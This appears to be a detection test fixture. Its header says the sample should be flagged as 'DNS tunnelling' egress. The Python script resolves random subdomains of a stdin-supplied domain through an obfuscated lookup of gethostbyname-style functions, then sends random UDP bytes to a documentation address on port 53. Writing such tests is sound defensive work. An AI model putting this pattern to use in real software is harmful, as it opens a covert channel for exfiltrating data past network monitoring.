# expect: detected
# threat: 25 DNS tunnelling
# at: runtime
# family: egress
# severity: medium
# decision: any
# stdin: x.example.com

import os
import socket
import sys

domain = sys.stdin.readline().strip()
lookup = [f for n, f in vars(socket).items() if n.endswith("byname") and n.startswith("geth")]
for n in range(6):
    for call in lookup:
        try:
            call(f"{os.urandom(8).hex()}.{n}.{domain}")
        except OSError as e:
            print(e)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    try:
        s.sendto(os.urandom(40), ("198.51.100.53", 50 + 3))
    except OSError as e:
        print(e)
